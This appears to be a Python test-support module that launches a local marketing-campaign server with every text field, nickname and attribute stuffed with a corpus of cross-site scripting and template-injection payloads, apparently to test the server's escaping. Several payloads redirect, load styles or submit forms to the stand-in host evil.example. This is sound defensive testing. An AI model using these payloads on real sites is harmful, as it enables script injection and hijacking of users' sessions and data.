"""A house in which every text that a brand sends is an attack: its campaign's, its members', those of its till."""

from __future__ import annotations

import shutil
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from datetime import UTC, datetime, timedelta
from io import StringIO
from pathlib import Path
from typing import Any

from ruamel.yaml import YAML

from engage.campaigns import with_schedule
from engage.kernel.clock import ManualClock
from engage.storage import migrate
from engage.web import SCOPES, create_key
from tests.support.bureau import CARDS, WHEEL, Bureau
from tests.support.playground import Playground
from tests.support.sample_campaign import TEXT, changed
from tests.support.server import Page, open_client
from tests.support.servers import private_folder
from tests.support.servers_of_engage import Nursery

LANGUAGES = {"zh-CN", "en"}
CORPUS = (
    "<script>pwned('script')</script>",
    "</script><script>pwned('end of script')</script>",
    "</title></textarea></style><svg onload=pwned('svg')>",
    "\"><img src=pwned onerror=pwned('image')>",
    "' onmouseover=pwned('attribute') autofocus onfocus=pwned('focus') x='",
    "<iframe srcdoc=\"<script>parent.pwned('frame')</script>\"></iframe>",
    "<a href=javascript:pwned('link')>a</a>",
    "<base href=//evil.example/><meta http-equiv=refresh content=0;url=//evil.example>",
    "<link rel=stylesheet href=//evil.example><style>@import '//evil.example'</style>",
    "<form action=//evil.example><input name=a><button>b</button></form>",
    "{{7*7}}{% raw %}${7*7}#{7*7}<%=7*7%>",
    "<!--<math><mtext></p><style><!--</style><img title=\"--><img src=pwned onerror=pwned('mutation')>\">",
    "&lt;img src=pwned onerror=pwned('entity')&gt;&#60;script&#62;",
    "\\u003cscript\\u003epwned('escape')\\u003c/script\\u003e`${pwned('template')}`",
)
LUCKY = (
    ("- total: 100\n", "- total: 1000000000\n"),
    ("weight: 5}", "weight: 999999998}"),
    ("weight: 45}", "weight: 1}"),
    ("weight: 50}", "weight: 1}"),
    ("[[tyre, 3], [none, 97]]", "[[tyre, 100]]"),
    ("units: 3\n", "units: 100\n"),
    ("money_fen: 300000", "money_fen: 10000000"),
)
NO_PAGES = (
    "/v1/",
    "/static/",
    "/docs",
    "/log/",
    "/.well-known",
    "/sign-in",
    "/media/",
    "/healthz",
    "/readyz",
    "/metrics",
)
NAMES = tuple(one for one in CORPUS if len(one) <= 64)


@dataclass(frozen=True)
class HostileHouse(Playground):
    """The server. `pages` are the addresses of its pages."""

    pages: tuple[str, ...] = field(default=(), compare=False)


def attacked(text: str) -> str:
    """A campaign file with the whole corpus in each of its texts; what is no text stays."""
    yaml = YAML()
    document = yaml.load(text)
    _attack(document)
    written = StringIO()
    yaml.dump(document, written)
    return written.getvalue()


def _attack(part: Any) -> None:
    if isinstance(part, list):
        for one in part:
            _attack(one)
    elif isinstance(part, dict):
        if set(part) == LANGUAGES:
            part.update({tag: f"{tag} {part[tag]} {' '.join(CORPUS)}" for tag in part})
        else:
            for one in part.values():
                _attack(one)


@contextmanager
def running_hostile_house() -> Iterator[HostileHouse]:
    """The server for the length of a block, with something in each list."""
    with private_folder("hostile", {}, in_memory=True) as folder:
        database = folder / "engage.db"
        url = f"sqlite:///{database}"
        migrate.upgrade(url)
        pages = _fill(url, folder)
        nursery = Nursery(url)
        try:
            nursery.start()
            yield HostileHouse(f"http://127.0.0.1:{nursery.port}", folder, nursery, database, pages)
        finally:
            nursery.close()
            shutil.rmtree(folder, ignore_errors=True)


def _fill(url: str, folder: Path) -> tuple[str, ...]:
    """Publish, and win of everything what can be won; the addresses of all pages."""
    now = datetime.now(UTC)
    text = TEXT
    for old, new in LUCKY:
        text = changed(old, new, text)
    bureau = Bureau(url, ManualClock(now))
    try:
        bureau.publish_campaign(attacked(with_schedule(text, now - timedelta(hours=1), now + timedelta(days=30))))
        key = bureau.services.writer.run(lambda work: create_key(work, "hostile", SCOPES))
        (folder / "api-key.txt").write_text(key, encoding="utf-8")
        client = open_client(bureau)
        brand = client.brand()
        for number, name in enumerate(NAMES):
            described = {"nickname": name, "birth_date": "1990-05-04", "attributes": {"tier": name}}
            assert brand.put(f"/v1/members/m-{number}", described).status_code == 201
            member = brand.get(f"/v1/members/m-{number}").get_json()["member"]
            for game in (WHEEL, CARDS):
                bureau.turns(member, game, 2)
                _play(Page(client.member(member), member, game))
        return _pages_of(client.app)
    finally:
        bureau.close()


def _play(page: Page) -> None:
    rules_hash = page.client.get(f"/v1/games/{page.game}").get_json()["rules_hash"]
    answer = page.client.post(f"/v1/games/{page.game}/acceptances", {"rules_hash": rules_hash})
    assert answer.status_code == 201, answer.get_json()
    page.play()


def _pages_of(app: Any) -> tuple[str, ...]:
    """Every address of a page, for each game where it is about one."""
    rules = [rule.rule for rule in app.url_map.iter_rules() if "GET" in rule.methods]
    shown = [rule for rule in rules if not rule.startswith(NO_PAGES) and rule not in ("/", "/openapi.json")]
    named = {rule.replace("<game>", game) for rule in shown for game in (WHEEL, CARDS)}
    return tuple(sorted(path for path in named if not set("<.") & set(path)))
